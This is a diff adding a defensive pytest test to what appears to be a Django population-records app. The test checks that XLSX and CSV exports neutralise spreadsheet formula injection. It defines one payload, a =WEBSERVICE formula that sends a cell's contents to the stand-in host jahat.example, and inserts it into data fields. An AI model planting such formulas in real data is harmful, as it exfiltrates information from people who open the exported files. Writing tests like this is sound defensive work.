@@ -7,6 +7,7 @@ from openpyxl import load_workbook
 
 from balai.akun.models import Peran
 from balai.penduduk import kode
+from balai.penduduk.tests.factories import make_penduduk
 
 pytestmark = pytest.mark.django_db
 
@@ -176,3 +177,25 @@ def test_region_dashboards_show_key_figures(
     admin = make_user(Peran.ADMIN_KABUPATEN)
     body = client_for(None, admin).get("/dasbor/").content.decode()
     assert "<strong>15</strong> jiwa" in body.split('id="penduduk-wilayah"')[1]
+
+
+JAHAT = '=WEBSERVICE("http://jahat.example/?"&C5)'
+
+
+def test_exports_keep_formula_like_labels_as_text(desa_a, warga_a, operator_a, client_for):
+    with scopes_disabled():
+        dusun = warga_a[0].dusun
+        dusun.nama = JAHAT
+        dusun.save()
+        make_penduduk(desa_a, suku="+SUKU " + JAHAT, tanggal_lahir=warga_a[0].tanggal_lahir)
+    client = client_for(desa_a, operator_a)
+    r = client.get("/admin-desa/statistik/?d=dusun&format=xlsx")
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value == JAHAT]
+    assert cells and all(c.data_type == "s" for c in cells)
+    r = client.get("/admin-desa/statistik/?d=dusun&format=csv")
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert ["'" + JAHAT] == [v for row in rows for v in row if JAHAT in v]
+    r = client.get("/admin-desa/statistik/?d=suku&format=csv")
+    labels = [row[1] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) if len(row) > 1]
+    assert "'+SUKU " + JAHAT in labels
